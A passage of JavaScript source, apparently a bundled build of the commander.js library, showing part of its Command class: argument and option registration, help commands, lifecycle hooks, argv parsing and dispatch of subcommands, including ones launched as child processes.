   * indicate this with <> around the name. Put [] around the name for an optional argument.
   *
   * @example
   * program.argument('<input-file>');
   * program.argument('[output-file]');
   *
   * @param {string} name
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom argument processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */
  argument(name, description, parseArg, defaultValue) {
    const argument = this.createArgument(name, description);
    if (typeof parseArg === "function") {
      argument.default(defaultValue).argParser(parseArg);
    } else {
      argument.default(parseArg);
    }
    this.addArgument(argument);
    return this;
  }
  /**
   * Define argument syntax for command, adding multiple at once (without descriptions).
   *
   * See also .argument().
   *
   * @example
   * program.arguments('<cmd> [env]');
   *
   * @param {string} names
   * @return {Command} `this` command for chaining
   */
  arguments(names) {
    names.trim().split(/ +/).forEach((detail) => {
      this.argument(detail);
    });
    return this;
  }
  /**
   * Define argument syntax for command, adding a prepared argument.
   *
   * @param {Argument} argument
   * @return {Command} `this` command for chaining
   */
  addArgument(argument) {
    const previousArgument = this.registeredArguments.slice(-1)[0];
    if (previousArgument?.variadic) {
      throw new Error(
        `only the last argument can be variadic '${previousArgument.name()}'`
      );
    }
    if (argument.required && argument.defaultValue !== void 0 && argument.parseArg === void 0) {
      throw new Error(
        `a default value for a required argument is never used: '${argument.name()}'`
      );
    }
    this.registeredArguments.push(argument);
    return this;
  }
  /**
   * Customise or override default help command. By default a help command is automatically added if your command has subcommands.
   *
   * @example
   *    program.helpCommand('help [cmd]');
   *    program.helpCommand('help [cmd]', 'show help');
   *    program.helpCommand(false); // suppress default help command
   *    program.helpCommand(true); // add help command even if no subcommands
   *
   * @param {string|boolean} enableOrNameAndArgs - enable with custom name and/or arguments, or boolean to override whether added
   * @param {string} [description] - custom description
   * @return {Command} `this` command for chaining
   */
  helpCommand(enableOrNameAndArgs, description) {
    if (typeof enableOrNameAndArgs === "boolean") {
      this._addImplicitHelpCommand = enableOrNameAndArgs;
      if (enableOrNameAndArgs && this._defaultCommandGroup) {
        this._initCommandGroup(this._getHelpCommand());
      }
      return this;
    }
    const nameAndArgs = enableOrNameAndArgs ?? "help [command]";
    const [, helpName, helpArgs] = nameAndArgs.match(/([^ ]+) *(.*)/);
    const helpDescription = description ?? "display help for command";
    const helpCommand = this.createCommand(helpName);
    helpCommand.helpOption(false);
    if (helpArgs) helpCommand.arguments(helpArgs);
    if (helpDescription) helpCommand.description(helpDescription);
    this._addImplicitHelpCommand = true;
    this._helpCommand = helpCommand;
    if (enableOrNameAndArgs || description) this._initCommandGroup(helpCommand);
    return this;
  }
  /**
   * Add prepared custom help command.
   *
   * @param {(Command|string|boolean)} helpCommand - custom help command, or deprecated enableOrNameAndArgs as for `.helpCommand()`
   * @param {string} [deprecatedDescription] - deprecated custom description used with custom name only
   * @return {Command} `this` command for chaining
   */
  addHelpCommand(helpCommand, deprecatedDescription) {
    if (typeof helpCommand !== "object") {
      this.helpCommand(helpCommand, deprecatedDescription);
      return this;
    }
    this._addImplicitHelpCommand = true;
    this._helpCommand = helpCommand;
    this._initCommandGroup(helpCommand);
    return this;
  }
  /**
   * Lazy create help command.
   *
   * @return {(Command|null)}
   * @package
   */
  _getHelpCommand() {
    const hasImplicitHelpCommand = this._addImplicitHelpCommand ?? (this.commands.length && !this._actionHandler && !this._findCommand("help"));
    if (hasImplicitHelpCommand) {
      if (this._helpCommand === void 0) {
        this.helpCommand(void 0, void 0);
      }
      return this._helpCommand;
    }
    return null;
  }
  /**
   * Add hook for life cycle event.
   *
   * @param {string} event
   * @param {Function} listener
   * @return {Command} `this` command for chaining
   */
  hook(event, listener) {
    const allowedValues = ["preSubcommand", "preAction", "postAction"];
    if (!allowedValues.includes(event)) {
      throw new Error(`Unexpected value for event passed to hook : '${event}'.
Expecting one of '${allowedValues.join("', '")}'`);
    }
    if (this._lifeCycleHooks[event]) {
      this._lifeCycleHooks[event].push(listener);
    } else {
      this._lifeCycleHooks[event] = [listener];
    }
    return this;
  }
  /**
   * Register callback to use as replacement for calling process.exit.
   *
   * @param {Function} [fn] optional callback which will be passed a CommanderError, defaults to throwing
   * @return {Command} `this` command for chaining
   */
  exitOverride(fn2) {
    if (fn2) {
      this._exitCallback = fn2;
    } else {
      this._exitCallback = (err) => {
        if (err.code !== "commander.executeSubCommandAsync") {
          throw err;
        } else {
        }
      };
    }
    return this;
  }
  /**
   * Call process.exit, and _exitCallback if defined.
   *
   * @param {number} exitCode exit code for using with process.exit
   * @param {string} code an id string representing the error
   * @param {string} message human-readable description of the error
   * @return never
   * @private
   */
  _exit(exitCode, code, message) {
    if (this._exitCallback) {
      this._exitCallback(new CommanderError(exitCode, code, message));
    }
    process2.exit(exitCode);
  }
  /**
   * Register callback `fn` for the command.
   *
   * @example
   * program
   *   .command('serve')
   *   .description('start service')
   *   .action(function() {
   *      // do work here
   *   });
   *
   * @param {Function} fn
   * @return {Command} `this` command for chaining
   */
  action(fn2) {
    const listener = (args) => {
      const expectedArgsCount = this.registeredArguments.length;
      const actionArgs = args.slice(0, expectedArgsCount);
      if (this._storeOptionsAsProperties) {
        actionArgs[expectedArgsCount] = this;
      } else {
        actionArgs[expectedArgsCount] = this.opts();
      }
      actionArgs.push(this);
      return fn2.apply(this, actionArgs);
    };
    this._actionHandler = listener;
    return this;
  }
  /**
   * Factory routine to create a new unattached option.
   *
   * See .option() for creating an attached option, which uses this routine to
   * create the option. You can override createOption to return a custom option.
   *
   * @param {string} flags
   * @param {string} [description]
   * @return {Option} new option
   */
  createOption(flags, description) {
    return new Option(flags, description);
  }
  /**
   * Wrap parseArgs to catch 'commander.invalidArgument'.
   *
   * @param {(Option | Argument)} target
   * @param {string} value
   * @param {*} previous
   * @param {string} invalidArgumentMessage
   * @private
   */
  _callParseArg(target, value, previous, invalidArgumentMessage) {
    try {
      return target.parseArg(value, previous);
    } catch (err) {
      if (err.code === "commander.invalidArgument") {
        const message = `${invalidArgumentMessage} ${err.message}`;
        this.error(message, { exitCode: err.exitCode, code: err.code });
      }
      throw err;
    }
  }
  /**
   * Check for option flag conflicts.
   * Register option if no conflicts found, or throw on conflict.
   *
   * @param {Option} option
   * @private
   */
  _registerOption(option) {
    const matchingOption = option.short && this._findOption(option.short) || option.long && this._findOption(option.long);
    if (matchingOption) {
      const matchingFlag = option.long && this._findOption(option.long) ? option.long : option.short;
      throw new Error(`Cannot add option '${option.flags}'${this._name && ` to command '${this._name}'`} due to conflicting flag '${matchingFlag}'
-  already used by option '${matchingOption.flags}'`);
    }
    this._initOptionGroup(option);
    this.options.push(option);
  }
  /**
   * Check for command name and alias conflicts with existing commands.
   * Register command if no conflicts found, or throw on conflict.
   *
   * @param {Command} command
   * @private
   */
  _registerCommand(command) {
    const knownBy = (cmd) => {
      return [cmd.name()].concat(cmd.aliases());
    };
    const alreadyUsed = knownBy(command).find(
      (name) => this._findCommand(name)
    );
    if (alreadyUsed) {
      const existingCmd = knownBy(this._findCommand(alreadyUsed)).join("|");
      const newCmd = knownBy(command).join("|");
      throw new Error(
        `cannot add command '${newCmd}' as already have command '${existingCmd}'`
      );
    }
    this._initCommandGroup(command);
    this.commands.push(command);
  }
  /**
   * Add an option.
   *
   * @param {Option} option
   * @return {Command} `this` command for chaining
   */
  addOption(option) {
    this._registerOption(option);
    const oname = option.name();
    const name = option.attributeName();
    if (option.defaultValue !== void 0) {
      this.setOptionValueWithSource(name, option.defaultValue, "default");
    }
    const handleOptionValue = (val, invalidValueMessage, valueSource) => {
      if (val == null && option.presetArg !== void 0) {
        val = option.presetArg;
      }
      const oldValue = this.getOptionValue(name);
      if (val !== null && option.parseArg) {
        val = this._callParseArg(option, val, oldValue, invalidValueMessage);
      } else if (val !== null && option.variadic) {
        val = option._collectValue(val, oldValue);
      }
      if (val == null) {
        if (option.negate) {
          val = false;
        } else if (option.isBoolean() || option.optional) {
          val = true;
        } else {
          val = "";
        }
      }
      this.setOptionValueWithSource(name, val, valueSource);
    };
    this.on("option:" + oname, (val) => {
      const invalidValueMessage = `error: option '${option.flags}' argument '${val}' is invalid.`;
      handleOptionValue(val, invalidValueMessage, "cli");
    });
    if (option.envVar) {
      this.on("optionEnv:" + oname, (val) => {
        const invalidValueMessage = `error: option '${option.flags}' value '${val}' from env '${option.envVar}' is invalid.`;
        handleOptionValue(val, invalidValueMessage, "env");
      });
    }
    return this;
  }
  /**
   * Internal implementation shared by .option() and .requiredOption()
   *
   * @return {Command} `this` command for chaining
   * @private
   */
  _optionEx(config, flags, description, fn2, defaultValue) {
    if (typeof flags === "object" && flags instanceof Option) {
      throw new Error(
        "To add an Option object use addOption() instead of option() or requiredOption()"
      );
    }
    const option = this.createOption(flags, description);
    option.makeOptionMandatory(!!config.mandatory);
    if (typeof fn2 === "function") {
      option.default(defaultValue).argParser(fn2);
    } else if (fn2 instanceof RegExp) {
      const regex = fn2;
      fn2 = (val, def) => {
        const m = regex.exec(val);
        return m ? m[0] : def;
      };
      option.default(defaultValue).argParser(fn2);
    } else {
      option.default(fn2);
    }
    return this.addOption(option);
  }
  /**
   * Define option with `flags`, `description`, and optional argument parsing function or `defaultValue` or both.
   *
   * The `flags` string contains the short and/or long flags, separated by comma, a pipe or space. A required
   * option-argument is indicated by `<>` and an optional option-argument by `[]`.
   *
   * See the README for more details, and see also addOption() and requiredOption().
   *
   * @example
   * program
   *     .option('-p, --pepper', 'add pepper')
   *     .option('--pt, --pizza-type <TYPE>', 'type of pizza') // required option-argument
   *     .option('-c, --cheese [CHEESE]', 'add extra cheese', 'mozzarella') // optional option-argument with default
   *     .option('-t, --tip <VALUE>', 'add tip to purchase cost', parseFloat) // custom parse function
   *
   * @param {string} flags
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom option processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */
  option(flags, description, parseArg, defaultValue) {
    return this._optionEx({}, flags, description, parseArg, defaultValue);
  }
  /**
   * Add a required option which must have a value after parsing. This usually means
   * the option must be specified on the command line. (Otherwise the same as .option().)
   *
   * The `flags` string contains the short and/or long flags, separated by comma, a pipe or space.
   *
   * @param {string} flags
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom option processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */
  requiredOption(flags, description, parseArg, defaultValue) {
    return this._optionEx(
      { mandatory: true },
      flags,
      description,
      parseArg,
      defaultValue
    );
  }
  /**
   * Alter parsing of short flags with optional values.
   *
   * @example
   * // for `.option('-f,--flag [value]'):
   * program.combineFlagAndOptionalValue(true);  // `-f80` is treated like `--flag=80`, this is the default behaviour
   * program.combineFlagAndOptionalValue(false) // `-fb` is treated like `-f -b`
   *
   * @param {boolean} [combine] - if `true` or omitted, an optional value can be specified directly after the flag.
   * @return {Command} `this` command for chaining
   */
  combineFlagAndOptionalValue(combine = true) {
    this._combineFlagAndOptionalValue = !!combine;
    return this;
  }
  /**
   * Allow unknown options on the command line.
   *
   * @param {boolean} [allowUnknown] - if `true` or omitted, no error will be thrown for unknown options.
   * @return {Command} `this` command for chaining
   */
  allowUnknownOption(allowUnknown = true) {
    this._allowUnknownOption = !!allowUnknown;
    return this;
  }
  /**
   * Allow excess command-arguments on the command line. Pass false to make excess arguments an error.
   *
   * @param {boolean} [allowExcess] - if `true` or omitted, no error will be thrown for excess arguments.
   * @return {Command} `this` command for chaining
   */
  allowExcessArguments(allowExcess = true) {
    this._allowExcessArguments = !!allowExcess;
    return this;
  }
  /**
   * Enable positional options. Positional means global options are specified before subcommands which lets
   * subcommands reuse the same option names, and also enables subcommands to turn on passThroughOptions.
   * The default behaviour is non-positional and global options may appear anywhere on the command line.
   *
   * @param {boolean} [positional]
   * @return {Command} `this` command for chaining
   */
  enablePositionalOptions(positional = true) {
    this._enablePositionalOptions = !!positional;
    return this;
  }
  /**
   * Pass through options that come after command-arguments rather than treat them as command-options,
   * so actual command-options come before command-arguments. Turning this on for a subcommand requires
   * positional options to have been enabled on the program (parent commands).
   * The default behaviour is non-positional and options may appear before or after command-arguments.
   *
   * @param {boolean} [passThrough] for unknown options.
   * @return {Command} `this` command for chaining
   */
  passThroughOptions(passThrough = true) {
    this._passThroughOptions = !!passThrough;
    this._checkForBrokenPassThrough();
    return this;
  }
  /**
   * @private
   */
  _checkForBrokenPassThrough() {
    if (this.parent && this._passThroughOptions && !this.parent._enablePositionalOptions) {
      throw new Error(
        `passThroughOptions cannot be used for '${this._name}' without turning on enablePositionalOptions for parent command(s)`
      );
    }
  }
  /**
   * Whether to store option values as properties on command object,
   * or store separately (specify false). In both cases the option values can be accessed using .opts().
   *
   * @param {boolean} [storeAsProperties=true]
   * @return {Command} `this` command for chaining
   */
  storeOptionsAsProperties(storeAsProperties = true) {
    if (this.options.length) {
      throw new Error("call .storeOptionsAsProperties() before adding options");
    }
    if (Object.keys(this._optionValues).length) {
      throw new Error(
        "call .storeOptionsAsProperties() before setting option values"
      );
    }
    this._storeOptionsAsProperties = !!storeAsProperties;
    return this;
  }
  /**
   * Retrieve option value.
   *
   * @param {string} key
   * @return {object} value
   */
  getOptionValue(key) {
    if (this._storeOptionsAsProperties) {
      return this[key];
    }
    return this._optionValues[key];
  }
  /**
   * Store option value.
   *
   * @param {string} key
   * @param {object} value
   * @return {Command} `this` command for chaining
   */
  setOptionValue(key, value) {
    return this.setOptionValueWithSource(key, value, void 0);
  }
  /**
   * Store option value and where the value came from.
   *
   * @param {string} key
   * @param {object} value
   * @param {string} source - expected values are default/config/env/cli/implied
   * @return {Command} `this` command for chaining
   */
  setOptionValueWithSource(key, value, source) {
    if (this._storeOptionsAsProperties) {
      this[key] = value;
    } else {
      this._optionValues[key] = value;
    }
    this._optionValueSources[key] = source;
    return this;
  }
  /**
   * Get source of option value.
   * Expected values are default | config | env | cli | implied
   *
   * @param {string} key
   * @return {string}
   */
  getOptionValueSource(key) {
    return this._optionValueSources[key];
  }
  /**
   * Get source of option value. See also .optsWithGlobals().
   * Expected values are default | config | env | cli | implied
   *
   * @param {string} key
   * @return {string}
   */
  getOptionValueSourceWithGlobals(key) {
    let source;
    this._getCommandAndAncestors().forEach((cmd) => {
      if (Object.hasOwn(cmd._optionValueSources, key)) {
        source = cmd.getOptionValueSource(key);
      }
    });
    return source;
  }
  /**
   * Get user arguments from implied or explicit arguments.
   * Side-effects: set _scriptPath if args included script. Used for default program name, and subcommand searches.
   *
   * @private
   */
  _prepareUserArgs(argv, parseOptions) {
    if (argv !== void 0 && !Array.isArray(argv)) {
      throw new Error("first parameter to parse must be array or undefined");
    }
    parseOptions = parseOptions || {};
    if (argv === void 0 && parseOptions.from === void 0) {
      if (process2.versions?.electron) {
        parseOptions.from = "electron";
      }
      const execArgv = process2.execArgv ?? [];
      if (execArgv.includes("-e") || execArgv.includes("--eval") || execArgv.includes("-p") || execArgv.includes("--print")) {
        parseOptions.from = "eval";
      }
    }
    if (argv === void 0) {
      argv = process2.argv;
    }
    this.rawArgs = argv.slice();
    let userArgs;
    switch (parseOptions.from) {
      case void 0:
      case "node":
        this._scriptPath = argv[1];
        userArgs = argv.slice(2);
        break;
      case "electron":
        if (process2.defaultApp) {
          this._scriptPath = argv[1];
          userArgs = argv.slice(2);
        } else {
          userArgs = argv.slice(1);
        }
        break;
      case "user":
        userArgs = argv.slice(0);
        break;
      case "eval":
        userArgs = argv.slice(1);
        break;
      default:
        throw new Error(
          `unexpected parse option { from: '${parseOptions.from}' }`
        );
    }
    if (!this._name && this._scriptPath)
      this.nameFromFilename(this._scriptPath);
    this._name = this._name || "program";
    return userArgs;
  }
  /**
   * Parse `argv`, setting options and invoking commands when defined.
   *
   * Use parseAsync instead of parse if any of your action handlers are async.
   *
   * Call with no parameters to parse `process.argv`. Detects Electron and special node options like `node --eval`. Easy mode!
   *
   * Or call with an array of strings to parse, and optionally where the user arguments start by specifying where the arguments are `from`:
   * - `'node'`: default, `argv[0]` is the application and `argv[1]` is the script being run, with user arguments after that
   * - `'electron'`: `argv[0]` is the application and `argv[1]` varies depending on whether the electron application is packaged
   * - `'user'`: just user arguments
   *
   * @example
   * program.parse(); // parse process.argv and auto-detect electron and special node flags
   * program.parse(process.argv); // assume argv[0] is app and argv[1] is script
   * program.parse(my-args, { from: 'user' }); // just user supplied arguments, nothing special about argv[0]
   *
   * @param {string[]} [argv] - optional, defaults to process.argv
   * @param {object} [parseOptions] - optionally specify style of options with from: node/user/electron
   * @param {string} [parseOptions.from] - where the args are from: 'node', 'user', 'electron'
   * @return {Command} `this` command for chaining
   */
  parse(argv, parseOptions) {
    this._prepareForParse();
    const userArgs = this._prepareUserArgs(argv, parseOptions);
    this._parseCommand([], userArgs);
    return this;
  }
  /**
   * Parse `argv`, setting options and invoking commands when defined.
   *
   * Call with no parameters to parse `process.argv`. Detects Electron and special node options like `node --eval`. Easy mode!
   *
   * Or call with an array of strings to parse, and optionally where the user arguments start by specifying where the arguments are `from`:
   * - `'node'`: default, `argv[0]` is the application and `argv[1]` is the script being run, with user arguments after that
   * - `'electron'`: `argv[0]` is the application and `argv[1]` varies depending on whether the electron application is packaged
   * - `'user'`: just user arguments
   *
   * @example
   * await program.parseAsync(); // parse process.argv and auto-detect electron and special node flags
   * await program.parseAsync(process.argv); // assume argv[0] is app and argv[1] is script
   * await program.parseAsync(my-args, { from: 'user' }); // just user supplied arguments, nothing special about argv[0]
   *
   * @param {string[]} [argv]
   * @param {object} [parseOptions]
   * @param {string} parseOptions.from - where the args are from: 'node', 'user', 'electron'
   * @return {Promise}
   */
  async parseAsync(argv, parseOptions) {
    this._prepareForParse();
    const userArgs = this._prepareUserArgs(argv, parseOptions);
    await this._parseCommand([], userArgs);
    return this;
  }
  _prepareForParse() {
    if (this._savedState === null) {
      this.options.filter(
        (option) => option.negate && option.defaultValue === void 0 && this.getOptionValue(option.attributeName()) === void 0
      ).forEach((option) => {
        const positiveLongFlag = option.long.replace(/^--no-/, "--");
        if (!this._findOption(positiveLongFlag)) {
          this.setOptionValueWithSource(
            option.attributeName(),
            true,
            "default"
          );
        }
      });
      this.saveStateBeforeParse();
    } else {
      this.restoreStateBeforeParse();
    }
  }
  /**
   * Called the first time parse is called to save state and allow a restore before subsequent calls to parse.
   * Not usually called directly, but available for subclasses to save their custom state.
   *
   * This is called in a lazy way. Only commands used in parsing chain will have state saved.
   */
  saveStateBeforeParse() {
    this._savedState = {
      // name is stable if supplied by author, but may be unspecified for root command and deduced during parsing
      _name: this._name,
      // option values before parse have default values (including false for negated options)
      // shallow clones
      _optionValues: { ...this._optionValues },
      _optionValueSources: { ...this._optionValueSources }
    };
  }
  /**
   * Restore state before parse for calls after the first.
   * Not usually called directly, but available for subclasses to save their custom state.
   *
   * This is called in a lazy way. Only commands used in parsing chain will have state restored.
   */
  restoreStateBeforeParse() {
    if (this._storeOptionsAsProperties)
      throw new Error(`Can not call parse again when storeOptionsAsProperties is true.
- either make a new Command for each call to parse, or stop storing options as properties`);
    this._name = this._savedState._name;
    this._scriptPath = null;
    this.rawArgs = [];
    this._optionValues = { ...this._savedState._optionValues };
    this._optionValueSources = { ...this._savedState._optionValueSources };
    this.args = [];
    this.processedArgs = [];
  }
  /**
   * Throw if expected executable is missing. Add lots of help for author.
   *
   * @param {string} executableFile
   * @param {string} executableDir
   * @param {string} subcommandName
   */
  _checkForMissingExecutable(executableFile, executableDir, subcommandName) {
    if (fs.existsSync(executableFile)) return;
    const executableDirMessage = executableDir ? `searched for local subcommand relative to directory '${executableDir}'` : "no directory for search for local subcommand, use .executableDir() to supply a custom directory";
    const executableMissing = `'${executableFile}' does not exist
 - if '${subcommandName}' is not meant to be an executable command, remove description parameter from '.command()' and use '.description()' instead
 - if the default executable name is not suitable, use the executableFile option to supply a custom name or path
 - ${executableDirMessage}`;
    throw new Error(executableMissing);
  }
  /**
   * Execute a sub-command executable.
   *
   * @private
   */
  _executeSubCommand(subcommand, args) {
    args = args.slice();
    const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
    function findFile(baseDir, baseName) {
      const localBin = path.resolve(baseDir, baseName);
      if (fs.existsSync(localBin)) return localBin;
      if (sourceExt.includes(path.extname(baseName))) return void 0;
      const foundExt = sourceExt.find(
        (ext) => fs.existsSync(`${localBin}${ext}`)
      );
      if (foundExt) return `${localBin}${foundExt}`;
      return void 0;
    }
    this._checkForMissingMandatoryOptions();
    this._checkForConflictingOptions();
    let executableFile = subcommand._executableFile || `${this._name}-${subcommand._name}`;
    let executableDir = this._executableDir || "";
    if (this._scriptPath) {
      let resolvedScriptPath;
      try {
        resolvedScriptPath = fs.realpathSync(this._scriptPath);
      } catch {
        resolvedScriptPath = this._scriptPath;
      }
      executableDir = path.resolve(
        path.dirname(resolvedScriptPath),
        executableDir
      );
    }
    if (executableDir) {
      let localFile = findFile(executableDir, executableFile);
      if (!localFile && !subcommand._executableFile && this._scriptPath) {
        const legacyName = path.basename(
          this._scriptPath,
          path.extname(this._scriptPath)
        );
        if (legacyName !== this._name) {
          localFile = findFile(
            executableDir,
            `${legacyName}-${subcommand._name}`
          );
        }
      }
      executableFile = localFile || executableFile;
    }
    const launchWithNode = sourceExt.includes(path.extname(executableFile));
    let proc;
    if (process2.platform !== "win32") {
      if (launchWithNode) {
        args.unshift(executableFile);
        args = incrementNodeInspectorPort(process2.execArgv).concat(args);
        proc = childProcess.spawn(process2.argv[0], args, { stdio: "inherit" });
      } else {
        proc = childProcess.spawn(executableFile, args, { stdio: "inherit" });
      }
    } else {
      this._checkForMissingExecutable(
        executableFile,
        executableDir,
        subcommand._name
      );
      args.unshift(executableFile);
      args = incrementNodeInspectorPort(process2.execArgv).concat(args);
      proc = childProcess.spawn(process2.execPath, args, { stdio: "inherit" });
    }
    if (!proc.killed) {
      const signals = ["SIGUSR1", "SIGUSR2", "SIGTERM", "SIGINT", "SIGHUP"];
      signals.forEach((signal) => {
        process2.on(signal, () => {
          if (proc.killed === false && proc.exitCode === null) {
            proc.kill(signal);
          }
        });
      });
    }
    const exitCallback = this._exitCallback;
    proc.on("close", (code) => {
      code = code ?? 1;
      if (!exitCallback) {
        process2.exit(code);
      } else {
        exitCallback(
          new CommanderError(
            code,
            "commander.executeSubCommandAsync",
            "(close)"
          )
        );
      }
    });
    proc.on("error", (err) => {
      if (err.code === "ENOENT") {
        this._checkForMissingExecutable(
          executableFile,
          executableDir,
          subcommand._name
        );
      } else if (err.code === "EACCES") {
        throw new Error(`'${executableFile}' not executable`);
      }
      if (!exitCallback) {
        process2.exit(1);
      } else {
        const wrappedError = new CommanderError(
          1,
          "commander.executeSubCommandAsync",
          "(error)"
        );
        wrappedError.nestedError = err;
        exitCallback(wrappedError);
      }
    });
    this.runningCommand = proc;
  }
  /**
   * @private
   */
  _dispatchSubcommand(commandName, operands, unknown) {
    const subCommand = this._findCommand(commandName);
    if (!subCommand) this.help({ error: true });
    subCommand._prepareForParse();
    let promiseChain;
    promiseChain = this._chainOrCallSubCommandHook(
      promiseChain,
      subCommand,
      "preSubcommand"
    );
    promiseChain = this._chainOrCall(promiseChain, () => {
      if (subCommand._executableHandler) {
        this._executeSubCommand(subCommand, operands.concat(unknown));
      } else {
        return subCommand._parseCommand(operands, unknown);
      }
    });
    return promiseChain;
  }
  /**
   * Invoke help directly if possible, or dispatch if necessary.
   * e.g. help foo
   *
   * @private
   */
  _dispatchHelpCommand(subcommandName) {
    if (!subcommandName) {
      this.help();
    }
    const subCommand = this._findCommand(subcommandName);
    if (subCommand && !subCommand._executableHandler) {
      subCommand.help();
    }
    return this._dispatchSubcommand(
      subcommandName,
      [],
      [this._getHelpOption()?.long ?? this._getHelpOption()?.short ?? "--help"]
    );
  }
  /**
   * Check this.args against expected this.registeredArguments.
   *
   * @private
   */
  _checkNumberOfArguments() {
    this.registeredArguments.forEach((arg, i) => {
      if (arg.required && this.args[i] == null) {
        this.missingArgument(arg.name());
      }
    });
    if (this.registeredArguments.length > 0 && this.registeredArguments[this.registeredArguments.length - 1].variadic) {
      return;
    }
    if (this.args.length > this.registeredArguments.length) {
      this._excessArguments(this.args);
    }
  }
  /**
   * Process this.args using this.registeredArguments and save as this.processedArgs!
   *
   * @private
   */
  _processArguments() {
    const myParseArg = (argument, value, previous) => {
      let parsedValue = value;
      if (value !== null && argument.parseArg) {
        const invalidValueMessage = `error: command-argument value '${value}' is invalid for argument '${argument.name()}'.`;
        parsedValue = this._callParseArg(
          argument,
          value,
          previous,
          invalidValueMessage
        );
      }
      return parsedValue;
    };
    this._checkNumberOfArguments();
    const processedArgs = [];
    this.registeredArguments.forEach((declaredArg, index) => {
      let value = declaredArg.defaultValue;
      if (declaredArg.variadic) {
        if (index < this.args.length) {
          value = this.args.slice(index);
          if (declaredArg.parseArg) {
            value = value.reduce((processed, v) => {
              return myParseArg(declaredArg, v, processed);
            }, declaredArg.defaultValue);
          }
        } else if (value === void 0) {
          value = [];
        }
      } else if (index < this.args.length) {
        value = this.args[index];
        if (declaredArg.parseArg) {
          value = myParseArg(declaredArg, value, declaredArg.defaultValue);
        }
      }
      processedArgs[index] = value;
    });
    this.processedArgs = processedArgs;
  }
  /**
   * Once we have a promise we chain, but call synchronously until then.
   *
   * @param {(Promise|undefined)} promise
   * @param {Function} fn
   * @return {(Promise|undefined)}
   * @private
   */
  _chainOrCall(promise, fn2) {
    if (promise?.then && typeof promise.then === "function") {
      return promise.then(() => fn2());
    }
    return fn2();
  }
  /**
   *
   * @param {(Promise|undefined)} promise
   * @param {string} event
   * @return {(Promise|undefined)}
   * @private
   */
  _chainOrCallHooks(promise, event) {
    let result = promise;
    const hooks = [];
    this._getCommandAndAncestors().reverse().filter((cmd) => cmd._lifeCycleHooks[event] !== void 0).forEach((hookedCommand) => {
      hookedCommand._lifeCycleHooks[event].forEach((callback) => {
        hooks.push({ hookedCommand, callback });
      });
    });
    if (event === "postAction") {
      hooks.reverse();
    }
    hooks.forEach((hookDetail) => {
      result = this._chainOrCall(result, () => {
        return hookDetail.callback(hookDetail.hookedCommand, this);
      });
    });
    return result;
  }
  /**
   *
   * @param {(Promise|undefined)} promise
   * @param {Command} subCommand
   * @param {string} event
   * @return {(Promise|undefined)}
   * @private
   */
  _chainOrCallSubCommandHook(promise, subCommand, event) {
    let result = promise;
    if (this._lifeCycleHooks[event] !== void 0) {
      this._lifeCycleHooks[event].forEach((hook) => {
        result = this._chainOrCall(result, () => {
          return hook(this, subCommand);
        });
      });
    }
    return result;
  }
  /**
   * Process arguments in context of this command.
   * Returns action result, in case it is a promise.
   *
   * @private
   */
  _parseCommand(operands, unknown) {
    const parsed = this.parseOptions(unknown);
    this._parseOptionsEnv();
    this._parseOptionsImplied();
    operands = operands.concat(parsed.operands);
    unknown = parsed.unknown;
    this.args = operands.concat(unknown);
    if (operands && this._findCommand(operands[0])) {
      return this._dispatchSubcommand(operands[0], operands.slice(1), unknown);
    }
    if (this._getHelpCommand() && operands[0] === this._getHelpCommand().name()) {
      return this._dispatchHelpCommand(operands[1]);
    }
    if (this._defaultCommandName) {
      this._outputHelpIfRequested(unknown);
      return this._dispatchSubcommand(
        this._defaultCommandName,
        operands,
        unknown
      );
    }
    if (this.commands.length && this.args.length === 0 && !this._actionHandler && !this._defaultCommandName) {
      this.help({ error: true });
    }
    this._outputHelpIfRequested(parsed.unknown);
    this._checkForMissingMandatoryOptions();
    this._checkForConflictingOptions();
    const checkForUnknownOptions = () => {
      if (parsed.unknown.length > 0) {
        this.unknownOption(parsed.unknown[0]);
      }
    };
    const commandEvent = `command:${this.name()}`;
    if (this._actionHandler) {
      checkForUnknownOptions();
      this._processArguments();
      let promiseChain;
      promiseChain = this._chainOrCallHooks(promiseChain, "preAction");
      promiseChain = this._chainOrCall(
        promiseChain,
        () => this._actionHandler(this.processedArgs)
      );
      if (this.parent) {
        promiseChain = this._chainOrCall(promiseChain, () => {
          this.parent.emit(commandEvent, operands, unknown);
        });
      }
      promiseChain = this._chainOrCallHooks(promiseChain, "postAction");
      return promiseChain;
    }
    if (this.parent?.listenerCount(commandEvent)) {
      checkForUnknownOptions();
      this._processArguments();
      this.parent.emit(commandEvent, operands, unknown);
    } else if (operands.length) {
      if (this._findCommand("*")) {
        return this._dispatchSubcommand("*", operands, unknown);
      }
      if (this.listenerCount("command:*")) {
        this.emit("command:*", operands, unknown);
      } else if (this.commands.length) {
        this.unknownCommand();
      } else {
        checkForUnknownOptions();
        this._processArguments();
      }
    } else if (this.commands.length) {
      checkForUnknownOptions();
      this.help({ error: true });
    } else {
      checkForUnknownOptions();
      this._processArguments();
    }
  }
  /**
   * Find matching command.
   *
   * @private
   * @return {Command | undefined}
   */
  _findCommand(name) {
    if (!name) return void 0;
    return this.commands.find(
      (cmd) => cmd._name === name || cmd._aliases.includes(name)
    );
  }
  /**
   * Return an option matching `arg` if any.
   *
   * @param {string} arg
   * @return {Option}
   * @package
   */
  _findOption(arg) {
    return this.options.find((option) => option.is(arg));
  }
  /**
   * Display an error message if a mandatory option does not have a value.
   * Called after checking for help flags in leaf subcommand.
   *
   * @private
   */
  _checkForMissingMandatoryOptions() {
    this._getCommandAndAncestors().forEach((cmd) => {
      cmd.options.forEach((anOption) => {
        if (anOption.mandatory && cmd.getOptionValue(anOption.attributeName()) === void 0) {
          cmd.missingMandatoryOptionValue(anOption);
        }
      });
    });
  }
  /**
   * Display an error message if conflicting options are used together in this.
   *
   * @private
   */
  _checkForConflictingLocalOptions() {
    const definedNonDefaultOptions = this.options.filter((option) => {
      const optionKey = option.attributeName();
      if (this.getOptionValue(optionKey) === void 0) {
        return false;
      }
      return this.getOptionValueSource(optionKey) !== "default";
    });
    const optionsWithConflicting = definedNonDefaultOptions.filter(
      (option) => option.conflictsWith.length > 0
    );
    optionsWithConflicting.forEach((option) => {
      const conflictingAndDefined = definedNonDefaultOptions.find(
